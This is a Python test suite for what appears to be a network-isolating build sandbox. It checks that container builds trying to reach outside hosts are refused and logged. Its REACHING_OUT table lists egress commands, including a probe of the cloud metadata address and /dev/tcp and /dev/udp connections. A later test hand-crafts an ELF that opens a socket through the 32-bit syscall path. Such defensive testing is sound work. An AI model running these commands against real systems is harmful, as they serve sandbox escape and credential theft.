"""Nothing gets out of a room, and what tried is named."""

# A test may wait for a short program.
# ruff: noqa: ASYNC221

import json
import os
import platform
import shutil
import struct
import subprocess
from pathlib import Path

import msgspec
import pytest

from airlock.core.errors import RoomError, StateError, ToolError
from airlock.room import RoomReport

REACHING_OUT = {
    "curl": "/usr/lib/apt/apt-helper download-file http://198.51.100.7/x /tmp/x",
    "tcp over ipv6": "bash -c 'exec 3<>/dev/tcp/2001:db8::7/443'",
    "udp": "bash -c 'exec 3<>/dev/udp/198.51.100.7/123 && echo x >&3'",
    "metadata": "bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'",
    "dns": "getent hosts updates.example.org",
    "dns elsewhere": "bash -c 'exec 3<>/dev/udp/198.51.100.53/53 && echo x >&3'",
    "raw": "perl -e 'socket(S, 2, 3, 1) or die $!'",
    "vsock": "perl -e 'socket(S, 40, 1, 0) or die $!'",
    "packet": "perl -e 'socket(S, 17, 3, 768) or die $!'",
    "io_uring": "perl -e '$b = \"\\0\" x 256; syscall(425, 1, $b) >= 0 or die $!'",
}


async def test_a_build_step_that_reaches_out_fails_and_the_report_shows_what_it_tried(open_room, base, build):
    async with open_room() as room:
        image = await base(room)
        await room.run_canary()
        room.image = "culprit"
        for what, command in REACHING_OUT.items():
            result = await build(room, f"FROM {image}\nRUN {command}\n")
            assert result.returncode != 0, (what, result.stdout)
        report = room.report()
    destinations = {(r.family, r.daddr, r.protocol, r.port) for r in report.refused}
    assert destinations == {
        ("ipv4", "198.51.100.7", "tcp", 80),
        ("ipv6", "2001:db8::7", "tcp", 443),
        ("ipv4", "198.51.100.7", "udp", 123),
        ("ipv4", "198.51.100.53", "udp", 53),
        ("ipv4", "169.254.169.254", "tcp", 80),
    }
    assert report.refused_packets == sum(r.packets for r in report.refused)
    assert {(q.name, q.image) for q in report.refused_names} == {("updates.example.org", "culprit")}
    assert {(s.call, s.family, s.type, s.image) for s in report.refused_sockets} == {
        ("socket", "AF_INET", "SOCK_RAW", "culprit"),
        ("socket", "AF_VSOCK", "SOCK_STREAM", "culprit"),
        ("socket", "AF_PACKET", "SOCK_RAW", "culprit"),
        ("io_uring_setup", "", "", "culprit"),
    }
    assert all(s.program.startswith("perl -e") for s in report.refused_sockets)
    assert [start.image for start in report.containers] == ["(canary)", *["culprit"] * len(REACHING_OUT)]
    assert msgspec.json.decode(msgspec.json.encode(report), type=RoomReport) == report


async def test_the_canary_is_refused_and_counted_apart_from_the_build(open_room, base, build):
    async with open_room() as room:
        result = await room.run_canary()
        quiet = await build(room, f"FROM {await base(room)}\nRUN perl -e 'socket(S, 2, 1, 6) or die'\n")
        report = room.report()
        everything = room.snapshot()
    assert quiet.returncode == 0, quiet.stderr
    assert all(attempt.refused and attempt.seen for attempt in result.attempts)
    assert {"nft", "dns", "seccomp"} == {attempt.seen for attempt in result.attempts}
    assert result.packets_counted == everything.packets >= 9
    assert (report.refused_packets, report.refused, report.refused_names, report.refused_sockets) == (0, (), (), ())
    assert report.canary == result


async def test_privileges_asked_for_by_a_build_do_not_open_the_room(open_room, base, build):
    text = (
        'RUN perl -e \'socket(S, 40, 1, 0) and die "vsock"; socket(S, 2, 3, 1) and die "raw"\'; cat /proc/self/status'
    )
    async with open_room() as room:
        image = await base(room)
        options = ("--cap-add=all", "--security-opt=seccomp=unconfined", "--network=private")
        result = await build(room, f"FROM {image}\n{text}\n", *options)
        report = room.report()
    assert result.returncode == 0, result.stderr
    (effective,) = [line for line in result.stdout.decode().splitlines() if line.startswith("CapEff")]
    assert int(effective.split()[1], 16) & (1 << 12 | 1 << 13 | 1 << 21) == 0  # NET_ADMIN, NET_RAW, SYS_ADMIN
    assert len(report.refused_sockets) == 2


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the i386 system call table is x86_64's")
async def test_the_32_bit_way_to_a_socket_is_closed(open_room, base, build, tmp_path):
    code = bytes.fromhex(
        "b867010000bb28000000b901000000ba00000000cd80b83c00000031ff0f05"
    )  # socket(AF_VSOCK) by int 0x80
    header = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x78 + len(code), 0x78 + len(code), 0x1000)
    (tmp_path / "context").mkdir()
    program = tmp_path / "context" / "old"
    program.write_bytes(header + segment + code)
    program.chmod(0o755)
    assert subprocess.run([program], check=False).returncode == 0  # it does run outside
    async with open_room() as room:
        text = f"FROM {await base(room)}\nCOPY old /old\nRUN /old; echo ended $?\n"
        result = await build(room, text)
    assert b"ended 159" in result.stdout  # 128 + SIGSYS


@pytest.mark.parametrize(
    "rule",
    [
        "insert rule inet airlock output ip daddr 169.254.169.254 reject",  # refused, but counted nowhere
        "insert rule inet airlock output ip daddr 169.254.169.254 accept",  # not refused
        "delete table inet airlock",
    ],
)
async def test_a_hole_in_the_packet_rules_forbids_the_build(open_room, rule):
    async with open_room() as room:
        subprocess.run(room.command(["nft", *rule.split()]), check=True)
        with pytest.raises(RoomError):
            await room.run_canary()


async def test_a_runtime_without_the_wrapper_forbids_the_build(open_room, state):
    async with open_room() as room:
        wrapper = state / "runtime" / "airlock-runc"
        wrapper.unlink()
        wrapper.symlink_to(shutil.which("runc"))
        with pytest.raises(RoomError, match="AF_VSOCK"):
            await room.run_canary()


async def test_a_wrapper_that_fails_makes_no_container(open_room, base, build, state):
    async with open_room() as room:
        (state / "runtime" / "runtime.json").write_text("{}")
        result = await build(room, f"FROM {await base(room)}\nRUN echo $((6 * 7))\n")
    assert result.returncode != 0
    assert b"\n42\n" not in result.stdout


async def test_programs_in_the_room_use_its_resolver_and_no_others(open_room, www):
    (www / "file").write_bytes(b"content")
    async with open_room() as room:
        fetched = await room.engine.tool("curl", "-sf", "http://mirror.airlock.internal/file")
        refused = await room.engine.tool("curl", "-sf", "http://example.org/")
        pulled = await room.engine.podman("pull", "registry.example.org/some:1")
        report = room.report()
    assert (fetched.returncode, fetched.stdout) == (0, b"content")
    assert refused.returncode == 6  # could not resolve
    assert pulled.returncode != 0
    assert {query.name for query in report.refused_names} == {"example.org", "registry.example.org"}
    assert [(s.path, s.status, s.sha256) for s in report.served] == [("/file", 200, "ab" * 32)]


async def test_two_rooms_cannot_share_a_state(open_room):
    async with open_room():
        with pytest.raises(StateError):
            async with open_room():
                pass


async def test_an_engine_that_does_not_start_says_why(open_room, state):
    async with open_room() as room:
        (state / "configuration" / "storage.conf").write_text("driver = nonsense [")
        with pytest.raises(ToolError, match="nonsense"):
            await room.engine.start()


async def test_the_hosts_network_is_as_before(open_room, state):
    def host() -> list[str]:
        commands = ["ip -j link", "ip -j route", "ip -j -6 route", "nft list ruleset", "ss -Hltunp"]
        said = [subprocess.run(c.split(), capture_output=True, check=True).stdout.decode() for c in commands]
        ours = [line for line in said[4].splitlines() if f"pid={os.getpid()}," in line]
        mounts = [line for line in Path("/proc/mounts").read_text().splitlines() if str(state) in line]
        return [*said[:4], *ours, *mounts]

    before = host()
    async with open_room() as room:
        await room.run_canary()
        during = host()
        inside = await room.engine.tool("ip", "-j", "link")
    assert before == during == host()
    assert [link["ifname"] for link in json.loads(inside.stdout)] == ["lo"]
